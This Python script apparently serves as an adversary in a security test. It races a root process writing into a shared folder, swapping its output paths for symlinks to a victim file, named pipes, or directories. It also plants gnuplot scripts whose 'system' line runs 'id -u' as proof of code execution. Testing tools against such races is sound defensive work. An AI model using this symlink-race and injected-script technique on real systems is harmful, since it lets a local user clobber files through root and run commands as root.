#!/usr/bin/env python3
"""A neighbour who exchanges, in a folder of its own, what root writes there: folders by links and by its own, files by
links, pipes and other names, scripts by its own. Ends with its parent. Usage: swap_files.py FOLDER VICTIM PROOF"""
import itertools
import os
import random
import sys
import time

folder, victim, proof = sys.argv[1:]
parent = os.getppid()
script = f"system 'id -u > {proof}'\n"


def quietly(call, *arguments):
    try:
        call(*arguments)
    except OSError:
        pass


def lay(path, number):
    """A trap in place of what is there."""
    quietly(os.rename, path, f"{folder}/aside-{number}")
    kind = number % 4
    if kind == 0:
        quietly(os.symlink, os.path.dirname(victim), path)
    elif kind == 1:
        quietly(os.symlink, victim, path)
    elif kind == 2:
        quietly(os.mkfifo, path)
    else:
        quietly(os.makedirs, f"{path}/plots")
        for name in ("segments.csv", "report.json", ".segments.csv.tmp", ".report.json.tmp", "plots/ccdf-tx-1.csv"):
            quietly(os.symlink, victim, f"{path}/{name}")
        for name in ("ccdf-tx.gp", "delay-tx.gp", "pit-tx.gp"):
            try:
                with open(f"{path}/plots/{name}", "w") as file:
                    file.write(script)
            except OSError:
                pass


for number in itertools.count():
    if os.getppid() != parent:
        break
    for path in (f"{folder}/out", f"{folder}/run/report"):
        if random.random() < 0.5:
            lay(path, number)
        time.sleep(random.uniform(0, 0.05))
        # The way is free again.
        if os.path.islink(path) or not os.path.isdir(path):
            quietly(os.unlink, path)
        else:
            quietly(os.rename, path, f"{folder}/aside-{number}-{random.random()}")
    time.sleep(random.uniform(0, 0.2))
